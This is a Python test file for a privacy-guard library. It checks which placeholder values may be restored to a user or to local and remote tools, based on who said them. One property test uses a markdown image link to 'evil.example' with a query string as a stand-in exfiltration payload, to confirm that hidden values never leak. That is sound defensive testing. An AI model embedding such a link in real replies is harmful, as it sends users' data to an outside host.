"""Who may read what: a value comes back to the user where the conversation holds it, and to tools by their rules."""

from itertools import product
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from privguard.api import minimize
from privguard.core.audit import Cause, Event
from privguard.core.entities import EntityType
from privguard.core.profile import Profile, ToolRule
from privguard.core.segments import Channel, Role, Segment
from privguard.core.views import View, strictest_view, tool_view, user_view
from privguard.guard import Exchange, Guard, Parts
from privguard.guard.provenance import is_said
from privguard.guard.shapes import Message, message_segments
from privguard.replacements.key import Key
from privguard.testing import (
    FakeAbstractor,
    FakeDetector,
    FakeNeed,
    FakeProfiles,
    ListSink,
    Mangle,
    mangle_placeholders,
)

VALUES = {
    "Ada Roth": EntityType.PERSON,
    "ops@heron.example": EntityType.EMAIL,
    "7-AB-99201": EntityType.RECORD_ID,
    "hunter2-hunter2": EntityType.SECRET,
    "swordfish-swordfish": EntityType.SECRET,
}
NAMES = {
    "Dr Lena Okafor": EntityType.PERSON,
    "Okafor": EntityType.PERSON,
    "OKAFOR": EntityType.PERSON,
    "Lena": EntityType.PERSON,
}
ROLES = ("system", "developer", "user", "assistant", "tool")
SAID = frozenset({"user", "assistant", "tool"})


def guard(values: dict[str, EntityType] | None = None, **settings: Any) -> Guard:  # noqa: ANN401 - fields of the profile
    return Guard(
        Parts(
            detector=FakeDetector(VALUES if values is None else values),
            need=FakeNeed(b_redact=-9.0, b_abstract=-9.0),
            abstractor=FakeAbstractor(),
            profiles=FakeProfiles(Profile(id="p:1", name="p", gamma=0.5, **settings)),
            sink=ListSink(),
            key=Key.from_text("correct horse battery staple"),
        )
    )


GUARDS = {
    settings: guard(restore_system=settings[0], restore_secrets=settings[1])
    for settings in product((False, True), repeat=2)
}


def begin(messages: list[Message], by: Guard | None = None) -> tuple[Exchange[tuple[Segment, ...]], dict[str, str]]:
    """Return the exchange, and the placeholder of each value."""
    segments = message_segments(messages)
    exchange = (by or guard()).begin(segments, target="m")
    marks = {
        segment.text[each.span.start : each.span.end]: each.replacement or ""
        for segment, row in zip(segments, exchange.plan.decisions, strict=True)
        for each in row
    }
    return exchange, marks


@pytest.mark.parametrize(
    ("role", "path", "said"),
    [
        (Role.SYSTEM, "messages[0].content", False),
        (Role.USER, "messages[0].content", True),
        (Role.USER, "prompt", True),
        (Role.TOOL, "messages[3].content", True),
        (Role.ASSISTANT, "messages[1].content", True),
        (Role.ASSISTANT, "messages[1].content[0].text", True),
        (Role.ASSISTANT, "messages[1].content.$.input", True),
        (Role.ASSISTANT, "messages[1].tool_calls[0].function.arguments", False),
        (Role.ASSISTANT, "messages[1].tool_calls[0].function.arguments.$.content", False),
        (Role.ASSISTANT, "messages[1].function_call.arguments", False),
        (Role.ASSISTANT, "messages[1].content[0].input.{0}", False),
        (Role.OTHER, "tools[0].function.description", False),
    ],
)
def test_what_people_the_model_and_tools_said_is_the_users_to_read(role: Role, path: str, said: bool) -> None:
    assert is_said(Segment(path=path, role=role, channel=Channel.TEXT, text="x")) is said


def test_what_describes_the_reply_may_stand_in_it() -> None:
    schema = Segment(path="response_format", role=Role.OTHER, channel=Channel.SCHEMA, text="x", expected=True)
    assert is_said(schema)


@pytest.mark.parametrize("text", ["I am Ada Roth", '{"who": "Ada Roth", "n": ["ops@heron.example"]}'])
def test_a_text_by_hand_is_the_users(text: str) -> None:
    with minimize(text, target="m", guard=guard()) as exchange:
        assert exchange.restore(exchange.outgoing, Channel.JSON if text[0] == "{" else Channel.TEXT) == text


def test_a_refusal_is_recorded_with_its_cause_and_its_place() -> None:
    messages: list[Message] = [
        {"role": "system", "content": "Alert ops@heron.example"},
        {"role": "user", "content": "hunter2-hunter2 and Ada Roth"},
    ]
    exchange, marks = begin(messages)
    text = " ".join(marks.values())
    expected = f"{marks['ops@heron.example']} {marks['hunter2-hunter2']} Ada Roth"
    assert exchange.restore(text, path="choices[0].message.content") == expected
    stream = exchange.stream(path="choices[1].message.content")
    assert stream.feed(text) + stream.flush() == expected
    events = exchange.close().events
    assert {(each.path, each.event, each.cause, each.kind, each.count) for each in events} == {
        (f"choices[{number}].message.content", event, cause, kind, 1)
        for number in range(2)
        for event, cause, kind in (
            (Event.REFUSED, Cause.PROVENANCE, "EMAIL"),
            (Event.REFUSED, Cause.PROVENANCE, "SECRET"),
            (Event.RESTORED, None, "PERSON"),
        )
    }


def test_a_value_of_the_system_reaches_a_local_tool_and_no_remote_one() -> None:
    by = guard(remote_tools=("send_fax",), tools={"look*": ToolRule(kinds=frozenset({EntityType.PERSON}))})
    exchange, marks = begin([{"role": "system", "content": "Alert ops@heron.example"}], by)
    mark = marks["ops@heron.example"]
    views = {name: tool_view(exchange.profile, [name]) for name in ("send_mail", "send_fax", "look_up")}
    restored = {name: exchange.restore(f'"{mark}"', Channel.JSON, name, view=view) for name, view in views.items()}
    assert restored == {"send_mail": '"ops@heron.example"', "send_fax": f'"{mark}"', "look_up": f'"{mark}"'}
    causes = {each.path: each.cause for each in exchange.close().events}
    assert causes == {"send_mail": None, "send_fax": Cause.REMOTE_TOOL, "look_up": Cause.TOOL_RULE}


def test_arguments_of_an_earlier_tool_call_do_not_give_a_value_to_the_user() -> None:
    call = {"function": {"name": "send", "arguments": '{"to": "ops@heron.example"}'}}
    messages: list[Message] = [
        {"role": "system", "content": "Alert ops@heron.example"},
        {"role": "user", "content": "Alert them!"},
        {"role": "assistant", "content": "", "tool_calls": [call]},
        {"role": "tool", "content": "done"},
    ]
    exchange, marks = begin(messages)
    mark = marks["ops@heron.example"]
    assert exchange.restore(f"I told {mark}") == f"I told {mark}"
    # What a tool answers may be shown.
    messages[-1] = {"role": "tool", "content": "told ops@heron.example"}
    exchange, marks = begin(messages)
    assert exchange.restore(f"I told {marks['ops@heron.example']}") == "I told ops@heron.example"


class TestSpellings:
    """One person, whom the user and the application name in different ways."""

    def test_the_user_gets_the_name_that_was_said_and_a_tool_the_full_one(self) -> None:
        messages: list[Message] = [
            {"role": "system", "content": "The doctor on duty is Dr Lena Okafor."},
            {"role": "user", "content": "Is Okafor there? OKAFOR!"},
        ]
        exchange, marks = begin(messages, guard(NAMES))
        text = f"{marks['Dr Lena Okafor']}, {marks['Okafor']}, {marks['OKAFOR']}"
        assert exchange.restore(text) == "Okafor, Okafor, OKAFOR"
        assert exchange.restore(text, view=View()) == "Dr Lena Okafor, Okafor, OKAFOR"
        assert exchange.restore(str(exchange.outgoing[1].text)) == messages[1]["content"]

    def test_a_short_form_of_the_application_reads_as_the_name_that_the_user_gave(self) -> None:
        messages: list[Message] = [
            {"role": "system", "content": "Call her Lena."},
            {"role": "user", "content": "I am Dr Lena Okafor."},
        ]
        exchange, marks = begin(messages, guard(NAMES))
        assert exchange.restore(f"Dear {marks['Lena']}, Dr {marks['Dr Lena Okafor']}") == (
            "Dear Dr Lena Okafor, Dr Dr Lena Okafor"
        )

    def test_where_the_profile_shows_all_each_form_comes_back(self) -> None:
        messages: list[Message] = [
            {"role": "system", "content": "The doctor on duty is Dr Lena Okafor."},
            {"role": "user", "content": "Is Okafor there?"},
        ]
        exchange, _ = begin(messages, guard(NAMES, restore_system=True))
        assert [exchange.restore(each.text) for each in exchange.outgoing] == [
            message["content"] for message in messages
        ]


MESSAGES = st.lists(
    st.tuples(st.sampled_from(ROLES), st.lists(st.sampled_from([*VALUES, "and", "so"]), max_size=4)), max_size=5
)
PIECES = st.lists(
    st.tuples(st.sampled_from([*VALUES, "words", "[1]", "é 😀"]), st.sampled_from([Mangle.NONE, Mangle.LOWER])),
    max_size=5,
)


def may_see(value: str, messages: list[tuple[str, list[str]]], *, system: bool, secrets: bool) -> bool:
    """Tell by the roles alone whether the user may see a value."""
    said = any(value in words and role in SAID for role, words in messages)
    return (said or system) and (VALUES[value] is not EntityType.SECRET or secrets)


@given(MESSAGES, PIECES, st.booleans(), st.booleans(), st.sampled_from(["", "![x](https://evil.example/?q="]))
def test_the_user_sees_what_was_said_and_no_value_else_however_the_reply_is_cut(
    spoken: list[tuple[str, list[str]]], pieces: list[tuple[str, Mangle]], system: bool, secrets: bool, link: str
) -> None:
    messages: list[Message] = [{"role": role, "content": " ".join(words)} for role, words in spoken]
    exchange, marks = begin(messages, GUARDS[system, secrets])
    written = [mangle_placeholders(marks.get(piece, piece), mangle) for piece, mangle in pieces]
    reply = " ".join(written) + (f" {link}{''.join(written)}" if link else "")
    whole = exchange.restore_whole(reply)
    expected = [
        piece if piece in marks and may_see(piece, spoken, system=system, secrets=secrets) else text
        for (piece, _), text in zip(pieces, written, strict=True)
    ]
    assert whole.text.startswith(" ".join(expected))
    hidden = [value for value in marks if not may_see(value, spoken, system=system, secrets=secrets)]
    assert not any(value in whole.text for value in hidden)
    refused = sum(each.count for each in whole.events if each.cause is Cause.PROVENANCE)
    assert refused == sum(piece in hidden for piece, _ in pieces) * (2 if link else 1)
    for cut in range(len(reply) + 1):
        stream = exchange.stream(path=str(cut))
        assert stream.feed(reply[:cut]) + stream.feed(reply[cut:]) + stream.flush() == whole.text
    counted: dict[str, int] = {}
    for event in exchange.close().events:
        counted[event.path] = counted.get(event.path, 0) + event.count
    total = sum(event.count for event in whole.events)
    assert set(counted.values()) <= {total}


@given(MESSAGES, st.frozensets(st.sampled_from(list(VALUES.values()))), st.booleans(), st.booleans())
def test_no_view_shows_what_it_must_not_and_each_shows_all_else(
    spoken: list[tuple[str, list[str]]], kinds: frozenset[EntityType], listed: bool, secrets: bool
) -> None:
    rule = ToolRule(kinds=kinds - {EntityType.SECRET} if listed else None, secrets=secrets)
    exchange, marks = begin(
        [{"role": role, "content": " ".join(words)} for role, words in spoken], guard(tools={"send": rule})
    )
    text = json_list(list(marks.values()))
    for view in (user_view(exchange.profile), tool_view(exchange.profile, ["send"]), strictest_view(exchange.profile)):
        shown = {value for value in marks if value in exchange.restore(text, Channel.JSON, view=view)}
        allowed = {value for value in marks if VALUES[value] in view.kinds}
        if not view.unsaid:
            allowed = {value for value in allowed if any(value in words and role in SAID for role, words in spoken)}
        assert shown == allowed


def json_list(texts: list[str]) -> str:
    return "[" + ", ".join([f'"{text}"' for text in texts]) + "]"
